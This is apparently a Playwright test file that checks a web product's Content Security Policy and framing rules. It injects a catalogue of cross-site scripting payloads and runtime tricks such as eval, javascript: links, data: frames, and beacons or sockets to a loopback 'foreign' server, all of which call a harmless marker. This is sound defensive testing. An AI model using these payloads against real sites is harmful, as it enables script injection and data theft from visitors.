import type { BrowserContext, Page } from '@playwright/test'
import { startHttpServer } from '../../tests/support/fakes/http-server.ts'
import { launchBrowser } from '../../tests/support/launch-browser.ts'
import type { Product } from '../hostile/open-stage.ts'
import type { Answer, Asked } from './read-answer.ts'

interface Attempt {
  readonly name: string
  /** Markup as it would stand in a document if nobody had cleaned it; `n` is how it tells that it got through. */
  readonly write: (n: number, foreign: string) => string
  /** What a visitor does with it, or is made to do. */
  readonly then?: 'click' | 'submit'
}

const data = (type: string, text: string) => `data:${type},${encodeURIComponent(text)}`
const drawing = (n: number) => `<svg xmlns="http://www.w3.org/2000/svg" onload="top.hit(${n})"/>`
const piece = (name: string, write: Attempt['write'], then?: Attempt['then']): Attempt => ({
  name,
  write,
  ...(then && { then }),
})

const inline = [
  piece('a script', n => `<script>hit(${n})</script>`),
  piece('a script with an empty nonce', n => `<script nonce="">hit(${n})</script>`),
  piece('a script with a guessed nonce', n => `<script nonce="AAAAAAAAAAAAAAAAAAAAAA==">hit(${n})</script>`),
  piece('a module', n => `<script type="module">hit(${n})</script>`),
  piece('a script in a drawing', n => `<svg><script>hit(${n})</script></svg>`),
  piece('a handler of an error', n => `<img src="data:," onerror="hit(${n})">`),
  piece('a handler of a drawing', n => `<svg onload="hit(${n})"></svg>`),
  piece('a handler of a style', n => `<style onload="hit(${n})">i{}</style>`),
  piece('a handler of a frame', n => `<iframe onload="hit(${n})"></iframe>`),
  piece('a handler of an opening', n => `<details open ontoggle="hit(${n})">x</details>`),
  piece(
    'a handler of an animation',
    n => `<svg><animate onbegin="hit(${n})" attributeName="x" dur="1s"/></svg>`,
  ),
  piece('a handler of a source', n => `<video><source src="data:," onerror="hit(${n})"></video>`),
  piece('a handler of a click', n => `<button data-try onclick="hit(${n})">x</button>`, 'click'),
]

const addresses = [
  piece('a javascript: link', n => `<a data-try href="javascript:hit(${n})">x</a>`, 'click'),
  piece('a javascript: link with a tab', n => `<a data-try href="java&#9;script:hit(${n})">x</a>`, 'click'),
  piece('a javascript: form', n => `<form data-try action="javascript:hit(${n})"></form>`, 'submit'),
  piece('a javascript: frame', n => `<iframe src="javascript:parent.hit(${n})"></iframe>`),
  piece('a frame of data', n => `<iframe src="${data('text/html', `<script>hit(${n})</script>`)}"></iframe>`),
  piece('a frame with a document', n => `<iframe srcdoc="<script>parent.hit(${n})</script>"></iframe>`),
  piece(
    'an object of data',
    n => `<object data="${data('text/html', `<script>hit(${n})</script>`)}"></object>`,
  ),
  piece(
    'an object with a drawing',
    n => `<object data="${data('image/svg+xml', drawing(n).replace('top.', ''))}"></object>`,
  ),
  piece('an embedded drawing', n => `<embed src="${data('image/svg+xml', drawing(n).replace('top.', ''))}">`),
  piece('a script of data', n => `<script src="${data('text/javascript', `hit(${n})`)}"></script>`),
  piece(
    'a module of data',
    n => `<script type="module" src="${data('text/javascript', `hit(${n})`)}"></script>`,
  ),
]

const foreigners = [
  piece('a foreign script', (n, to) => `<script src="${to}/${n}/x.js"></script>`),
  piece(
    'a foreign script without its scheme',
    (n, to) => `<script src="${to.slice('http:'.length)}/${n}/x.js"></script>`,
  ),
  piece('a foreign module', (n, to) => `<script type="module" src="${to}/${n}/x.js"></script>`),
  piece('a foreign script of a drawing', (n, to) => `<svg><script href="${to}/${n}/x.js"></script></svg>`),
  piece('a foreign module ahead', (n, to) => `<link rel="modulepreload" href="${to}/${n}/x.js">`),
  piece('a foreign script ahead', (n, to) => `<link rel="preload" as="script" href="${to}/${n}/x.js">`),
  piece('a foreign style', (n, to) => `<link rel="stylesheet" href="${to}/${n}/x.css">`),
  piece('a foreign style in a style', (n, to) => `<style>@import url("${to}/${n}/x.css")</style>`),
  piece('a foreign ground', (n, to) => `<p style="background:url(${to}/${n}/x.png)">x</p>`),
  piece('a foreign picture', (n, to) => `<img src="${to}/${n}/x.png">`),
  piece('a foreign picture of a drawing', (n, to) => `<svg><image href="${to}/${n}/x.png"/></svg>`),
  piece('a foreign picture of an input', (n, to) => `<input type="image" src="${to}/${n}/x.png">`),
  piece('a foreign poster', (n, to) => `<video poster="${to}/${n}/x.png"></video>`),
  piece('a foreign video', (n, to) => `<video preload="auto" src="${to}/${n}/x.mp4"></video>`),
  piece('a foreign frame', (n, to) => `<iframe src="${to}/${n}/x.html"></iframe>`),
  piece('a foreign object', (n, to) => `<object data="${to}/${n}/x.html"></object>`),
  piece('a foreign plug-in', (n, to) => `<embed src="${to}/${n}/x.html">`),
  piece(
    'a foreign base',
    (n, to) => `<base href="${to}/"><img src="${n}/x.png"><script src="${n}/x.js"></script>`,
  ),
  piece(
    'a foreign ping',
    (n, to) => `<a data-try target="_blank" href="about:blank" ping="${to}/${n}/x">x</a>`,
    'click',
  ),
  piece(
    'a form to a foreign place',
    (n, to) =>
      `<form data-try target="_blank" method="post" action="${to}/${n}/x"><input name="a" value="b"></form>`,
    'submit',
  ),
  piece(
    'a form that asks a foreign place',
    (n, to) => `<form data-try target="_blank" action="${to}/${n}/x"><input name="a" value="b"></form>`,
    'submit',
  ),
  piece(
    'a button to a foreign place',
    (n, to) =>
      `<form target="_blank"><button data-try formmethod="post" formaction="${to}/${n}/x">x</button></form>`,
    'click',
  ),
]

/** What stands in the document from the start. */
const attempts: readonly Attempt[] = [...inline, ...addresses, ...foreigners]

/**
 * What a script of ours could be led to do by somebody's words, once the page is there. Each stands alone: it runs in the
 * page, in a task of its own, for what a debugger asks for is not held to the policy.
 */
const laterAttempts: Readonly<Record<string, (n: number, foreign: string) => unknown>> = {
  eval: n => Reflect.get(globalThis, 'eval')(`hit(${n})`),
  'a function of words': n => new Function(`hit(${n})`)(),
  'words for a timer': n => setTimeout(`hit(${n})` as never, 0),
  'words in a script': n => {
    const script = document.createElement('script')
    script.textContent = `hit(${n})`
    document.body.append(script)
  },
  'a foreign script put in': (n, foreign) => {
    const script = document.createElement('script')
    script.src = `${foreign}/${n}/x.js`
    document.body.append(script)
  },
  'a script of a blob put in': n => {
    const script = document.createElement('script')
    script.src = URL.createObjectURL(new Blob([`hit(${n})`], { type: 'text/javascript' }))
    document.body.append(script)
  },
  'markup put in': n => {
    const box = document.createElement('div')
    box.innerHTML = `<img src="data:," onerror="hit(${n})">`
    document.body.append(box)
  },
  'a handler put on': n => {
    const box = document.createElement('button')
    box.setAttribute('onclick', `hit(${n})`)
    document.body.append(box)
    box.click()
  },
  'a way to javascript:': n => {
    location.href = `javascript:void hit(${n})`
  },
  'a foreign module imported': (n, foreign) => import(`${foreign}/${n}/x.js`),
  'a module of data imported': n => import(`data:text/javascript,hit(${n})`),
  'a worker of data': (n, foreign) => new Worker(`data:text/javascript,fetch('${foreign}/${n}/x')`),
  'a call to a foreign place': (n, foreign) => fetch(`${foreign}/${n}/x`, { mode: 'no-cors' }),
  'a beacon to a foreign place': (n, foreign) => navigator.sendBeacon(`${foreign}/${n}/x`),
  'a stream of a foreign place': (n, foreign) => new EventSource(`${foreign}/${n}/x`),
  'a socket to a foreign place': (n, foreign) => new WebSocket(`${foreign.replace('http', 'ws')}/${n}/x`),
  'a foreign frame put in': (n, foreign) => {
    const frame = document.createElement('iframe')
    frame.src = `${foreign}/${n}/x.html`
    document.body.append(frame)
  },
}

/** As the first thing in the body, or in the root of a drawing; what is no markup begins with it. */
function injectAttempts(body: string, from: number, foreign: string): string {
  const pieces = attempts.map(({ write, then }, at) =>
    write(from + at, foreign).replace('data-try', `data-try="${then}"`),
  )
  const place = /<body\b[^>]*>|<svg\b[^>]*>/i.exec(body)
  const at = place ? place.index + place[0].length : 0
  return body.slice(0, at) + pieces.join('\n') + body.slice(at)
}

/** An expression for the page: each in a task of its own. */
function writeLaterAttempts(from: number, foreign: string): string {
  const tasks = Object.values(laterAttempts).map(
    (attempt, at) => `setTimeout(() => (${attempt})(${from + at}, ${JSON.stringify(foreign)}), ${at * 5})`,
  )
  return `(() => { ${tasks.join(';')} })()`
}

/** Runs in the page: does with the next of what is there as a visitor would; false when nothing is left. */
function useNextAttempt(): boolean {
  const element = document.querySelector<HTMLElement>('[data-try]')
  if (!element) return false
  const kind = element.dataset.try
  element.removeAttribute('data-try')
  if (kind === 'click') element.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }))
  else (element as HTMLFormElement).requestSubmit()
  return true
}

interface Trial {
  /** Shows the answer with somebody's markup in it until `isOver`, and tells what got through. */
  attack(answer: Answer, as: Asked['as'], isOver: (through: number) => boolean): Promise<string[]>
  /** Opens it as it is, and tells what of its own its policy refused. */
  open(answer: Answer, asked: Asked): Promise<string[]>
  /** Which addresses of ours came up in frames on a foreign page. */
  frame(paths: readonly string[]): Promise<string[]>
  close(): Promise<void>
}

/** All that is tried in a document. */
export const ways: readonly string[] = [...attempts.map(({ name }) => name), ...Object.keys(laterAttempts)]

const settings = {
  viewport: { width: 1280, height: 800 },
  // Newer browsers ask before a page may reach this machine; that is not what is tried here.
  permissions: ['local-network-access'],
}
const patience = { waitUntil: 'load', timeout: 60_000 } as const

/** A real browser, with the policy on. */
export async function openTrial({ url, cookies }: Product, foreign: ForeignPlace): Promise<Trial> {
  const browser = await launchBrowser()
  const contexts = { author: await browser.newContext(settings), visitor: await browser.newContext(settings) }
  await contexts.author.addCookies(cookies.map(cookie => ({ ...cookie, url })))
  const hits = new Set<number>()
  const refusals = new WeakMap<Page, Set<string>>()
  for (const context of Object.values(contexts)) await listen(context)
  let attacks = 0

  async function listen(context: BrowserContext): Promise<void> {
    await context.addInitScript(() => {
      Object.assign(window, { hit: (what: unknown) => console.log(`HIT ${String(what)}`) })
      document.addEventListener('securitypolicyviolation', event =>
        console.log(`REFUSED ${event.effectiveDirective} ${event.blockedURI} ${event.sample}`),
      )
    })
    context.on('console', message => {
      const [kind, ...words] = message.text().split(' ')
      if (kind === 'HIT') hits.add(Number(words[0]))
      const page = message.page()
      if (kind === 'REFUSED' && page) refusals.get(page)?.add(words.join(' '))
    })
    // What asks before it lets go must not hold the others up.
    context.on('dialog', dialog => void dialog.accept().catch(() => undefined))
  }

  /** As it was answered, but for what `change` makes of it. */
  async function show(page: Page, answer: Answer, change: (body: string) => string): Promise<void> {
    const { pathname, search } = new URL(answer.path, url)
    const headers = Object.fromEntries(answer.headers)
    for (const name of ['content-encoding', 'content-length', 'content-disposition']) delete headers[name]
    await page.route(
      asked => asked.pathname === pathname && asked.search === search,
      route => {
        const request = route.request()
        const isDocument = request.isNavigationRequest() && request.frame().parentFrame() === null
        if (!isDocument) return route.continue()
        return route.fulfill({ status: answer.status, headers, body: change(answer.body) })
      },
    )
    await page.goto(url + answer.path, patience)
  }

  return {
    async attack(answer, as, isOver) {
      const from = ways.length * attacks++
      const page = await contexts[as].newPage()
      page.on('popup', opened => void opened.close().catch(() => undefined))
      const listThrough = () => ways.filter((_, at) => hits.has(from + at) || foreign.heard.has(from + at))
      try {
        await show(page, answer, body => injectAttempts(body, from, foreign.origin))
        // One way out at a time: the next would take the place of one that has not begun. The page itself cannot wait, for
        // where scripts are off its timers stand still.
        while (await page.evaluate(useNextAttempt).catch(() => false)) await page.waitForTimeout(5)
        const later = writeLaterAttempts(from + attempts.length, foreign.origin)
        await page.evaluate(later).catch(() => undefined)
        while (!isOver(listThrough().length)) await page.waitForTimeout(20)
        return listThrough()
      } finally {
        await page.close()
      }
    },
    async open(answer, { as, form }) {
      const page = await contexts[as].newPage()
      const refused = new Set<string>()
      refusals.set(page, refused)
      if (form) await show(page, answer, body => body)
      else await page.goto(url + answer.path, patience)
      // Streams of the editor never end, and a page that is busy for longer has shown what it has.
      await page.waitForLoadState('networkidle', { timeout: 3000 }).catch(() => undefined)
      await page.close()
      return [...refused]
    },
    async frame(paths) {
      const page = await contexts.visitor.newPage()
      const query = new URLSearchParams(paths.map(path => ['src', url + path]))
      await page.goto(`${foreign.origin}/frames?${query}`, patience)
      const framed = page.frames().map(frame => frame.url())
      await page.close()
      return framed.filter(address => address.startsWith(url)).map(address => address.slice(url.length))
    },
    close: () => browser.close(),
  }
}

/** Somebody else's origin on loopback, that hears of everything that gets through to it. */
interface ForeignPlace {
  readonly origin: string
  /** The numbers of what was asked for. */
  readonly heard: Set<number>
  close(): Promise<void>
}

const types: Readonly<Record<string, string>> = { js: 'text/javascript', css: 'text/css', html: 'text/html' }

export async function openForeignPlace(): Promise<ForeignPlace> {
  const heard = new Set<number>()
  const server = await startHttpServer(({ path, query, response }) => {
    const number = /^\/(\d+)\//.exec(path)?.[1]
    if (number) heard.add(Number(number))
    const type = types[path.slice(path.lastIndexOf('.') + 1)] ?? 'text/plain'
    response.setHeader('access-control-allow-origin', '*')
    if (path === '/frames') return response.setHeader('content-type', 'text/html').end(writeFrames(query))
    response.setHeader('content-type', type).end(number && type === types.js ? `hit(${number})` : '')
  })
  return { origin: server.origin, heard, close: server.close }
}

/** A page of theirs that puts pages of ours into frames. */
function writeFrames(query: URLSearchParams): string {
  const frames = query.getAll('src').map(src => `<iframe src="${src.replaceAll('&', '&amp;')}"></iframe>`)
  return `<!doctype html><title>Foreign</title>${frames.join('')}`
}

const longestMs = 15_000

/** The same attempts in a page without a policy: what is not seen to get through there would be seen nowhere. */
export async function findBlindness(trial: Trial): Promise<{ failures: string[]; tookMs: number }> {
  const headers = new Headers({ 'content-type': 'text/html' })
  const page = {
    status: 200,
    headers,
    body: '<!doctype html><title>x</title><body></body>',
    path: '/no-policy',
  }
  const began = performance.now()
  let since: number | undefined
  const through = await trial.attack(page, 'visitor' satisfies Asked['as'], got => {
    since ??= performance.now()
    return got === ways.length || performance.now() - began > longestMs
  })
  const unseen = ways.filter(name => !through.includes(name))
  return {
    failures: unseen.map(name => `${name} was not seen to get through where nothing held it back`),
    tookMs: performance.now() - (since ?? began),
  }
}

const atOnce = 12

/** A foreign page puts all of them into frames: decks come up there, and nothing else does. */
export async function tryFraming(trial: Trial, documents: readonly Asked[]): Promise<string[]> {
  const failures: string[] = []
  const paths = (framing: Asked['framing']) =>
    documents.filter(one => one.framing === framing && one.form === undefined).map(({ path }) => path)
  for (const chunk of inChunks(paths('nobody else'))) {
    failures.push(...(await trial.frame(chunk)).map(path => `${path} came up in a foreign frame`))
  }
  for (const chunk of inChunks(paths('anyone'))) {
    const framed = await trial.frame(chunk)
    failures.push(
      ...chunk.filter(path => !framed.includes(path)).map(path => `${path} does not come up in a frame`),
    )
  }
  return failures
}

function inChunks(paths: readonly string[]): string[][] {
  return Array.from({ length: Math.ceil(paths.length / atOnce) }, (_, at) =>
    paths.slice(at * atOnce, (at + 1) * atOnce),
  )
}
